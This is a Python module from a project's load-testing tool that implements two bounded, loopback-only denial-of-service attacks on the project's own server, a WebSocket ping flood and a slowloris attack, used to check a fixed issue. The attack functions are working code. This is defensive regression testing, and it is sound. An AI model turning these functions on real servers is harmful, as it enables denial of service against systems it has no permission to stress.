"""The load tool's attacks on the transport (issue 26, holes 1 and 2; docs/server.md,
"Load"): ``--abuse ping-flood`` and ``--abuse slowloris``, each from one address
(:data:`.procs.ATTACKER`), bounded in count and time, loopback only.

- :func:`ping_flood`: WebSockets that send ping frames (125-byte payloads: the largest
  pong) as fast as the server takes them and never read again after the handshake.
  Before issue 26 the server wrote a pong for each into a buffer that only grew (1 GB
  in 25 s).
- :func:`slowloris`: TCP connections that send half a request (a request line and one
  header) and then one more header line every few seconds, never ending it. Before
  issue 26 the server held each until the attacker let go (20,300 took every file
  descriptor).

:data:`PING_FRAME` and :func:`handshake` are also what tests/test_server_transport.py
sends (one source). Generic: nothing here names a game. Part of :mod:`.run`.
"""

from __future__ import annotations

import asyncio
import base64
import os
import resource
import time
from typing import Any, Dict

from .client import tally

__all__ = [
    "ping_flood",
    "slowloris",
    "handshake",
    "PING_FRAME",
    "HALF_REQUEST",
    "MAX_ABUSE_PINGS",
    "MAX_ABUSE_SOCKETS",
]

MAX_ABUSE_PINGS = 2_000_000  # ping frames in all (131 bytes each: 262 MB at most)
MAX_ABUSE_SOCKETS = 20_000  # connections opened in all, by either attack
PING_FLOOD_CONNECTIONS = 4  # at once
PINGS_PER_WRITE = 256  # 33.5 KB a write
TRICKLE_S = 2.0  # slowloris: one more header line this often
# A client's ping: FIN + opcode 9, masked, 125 bytes. The mask key 0 leaves the payload
# as is (RFC 6455 allows any key).
PING_FRAME = b"\x89\xfd" + b"\x00\x00\x00\x00" + b"p" * 125
HALF_REQUEST = b"GET / HTTP/1.1\r\nHost: localhost\r\n"  # no blank line: never ends


def handshake(host: str, port: int) -> bytes:
    """A WebSocket upgrade request for ``/ws`` (no ``Origin``: not a browser)."""
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET /ws HTTP/1.1\r\nHost: {host}:{port}\r\nUpgrade: websocket\r\n"
        f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\n"
        "Sec-WebSocket-Version: 13\r\n\r\n"
    ).encode()


async def ping_flood(
    host: str, port: int, deadline: float, report: Dict[str, Any], address: str
) -> None:
    """:data:`PING_FLOOD_CONNECTIONS` WebSockets at once from ``address`` flood pings
    until ``deadline`` (at most :data:`MAX_ABUSE_PINGS` in all); one the server closes
    is replaced (at most :data:`MAX_ABUSE_SOCKETS` in all). ``report``: the handshake
    answers, pings written (into its sockets: after the server closed one, the rest of
    what was written there is never read), how each connection ended (closed by the
    server, or stalled at the end: the server stopped reading it)."""
    answers: Dict[str, int] = report.setdefault("handshakes", {})
    ends: Dict[str, int] = report.setdefault("ends", {})
    counts = {"pings": 0, "sockets": 0}
    batch = PING_FRAME * PINGS_PER_WRITE

    async def one() -> None:
        counts["sockets"] += 1
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(address, 0)), 5
            )
        except (OSError, asyncio.TimeoutError) as exc:
            tally(answers, type(exc).__name__)
            await asyncio.sleep(0.05)
            return
        try:
            writer.write(handshake(host, port))
            head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            status = head.split(b" ", 2)[1].decode()
            tally(answers, status)
            if status != "101":
                await asyncio.sleep(0.05)
                return
            # From here on nothing is read: the reader's buffer fills, then the socket's.
            while time.time() < deadline and counts["pings"] < MAX_ABUSE_PINGS:
                writer.write(batch)
                counts["pings"] += PINGS_PER_WRITE
                await asyncio.wait_for(writer.drain(), max(0.01, deadline - time.time()))
            tally(ends, "open at the end")
        except asyncio.TimeoutError:
            tally(ends, "stalled at the end (the server stopped reading)")
        except (OSError, asyncio.IncompleteReadError) as exc:
            tally(ends, f"closed by the server ({type(exc).__name__})")
        finally:
            writer.transport.abort()

    async def keep_one() -> None:
        while (
            time.time() < deadline
            and counts["pings"] < MAX_ABUSE_PINGS
            and counts["sockets"] < MAX_ABUSE_SOCKETS
        ):
            await one()

    start = time.time()
    await asyncio.gather(*(keep_one() for _ in range(PING_FLOOD_CONNECTIONS)))
    report["pings_written"] = counts["pings"]  # into its sockets, not all read
    report["connections"] = counts["sockets"]
    report["pings_per_s"] = round(counts["pings"] / max(1e-3, time.time() - start), 1)


async def slowloris(
    host: str, port: int, deadline: float, report: Dict[str, Any], rate: float, address: str
) -> None:
    """Half-sent requests from ``address``: ``rate`` new connections a second until
    ``deadline`` (at most :data:`MAX_ABUSE_SOCKETS` in all, and fewer open at once than
    this process's file descriptors allow), each trickling a header line every
    :data:`TRICKLE_S`. ``report``: how each connection ended (closed by the server,
    refused at connect, held to the end) and the most held open at once."""
    ends: Dict[str, int] = report.setdefault("ends", {})
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    cap = max(16, min(MAX_ABUSE_SOCKETS, limit - 256))  # leave this process some fds
    state = {"opened": 0, "open": 0, "open_max": 0}
    tasks = set()

    async def one() -> None:
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(address, 0)), 5
            )
        except (OSError, asyncio.TimeoutError) as exc:
            tally(ends, f"refused at connect ({type(exc).__name__})")
            return
        state["open"] += 1
        state["open_max"] = max(state["open_max"], state["open"])
        try:
            writer.write(HALF_REQUEST)
            while time.time() < deadline:
                wait = min(TRICKLE_S, max(0.01, deadline - time.time()))
                try:
                    said = await asyncio.wait_for(reader.read(256), wait)
                except asyncio.TimeoutError:
                    writer.write(b"X-Slow: %d\r\n" % state["opened"])
                    continue
                tally(ends, "answered, then closed" if said else "closed by the server")
                return
            tally(ends, "held to the end")
        except OSError as exc:
            tally(ends, f"closed by the server ({type(exc).__name__})")
        finally:
            state["open"] -= 1
            writer.transport.abort()

    start = time.time()
    while time.time() < deadline and state["opened"] < MAX_ABUSE_SOCKETS:
        ahead = start + state["opened"] / rate - time.time()
        if ahead > 0:
            await asyncio.sleep(ahead)
        if state["open"] >= cap:
            await asyncio.sleep(0.05)
            continue
        state["opened"] += 1
        task = asyncio.ensure_future(one())
        tasks.add(task)
        task.add_done_callback(tasks.discard)
    if tasks:
        await asyncio.gather(*tasks)
    report["opened"] = state["opened"]
    report["open_max"] = state["open_max"]
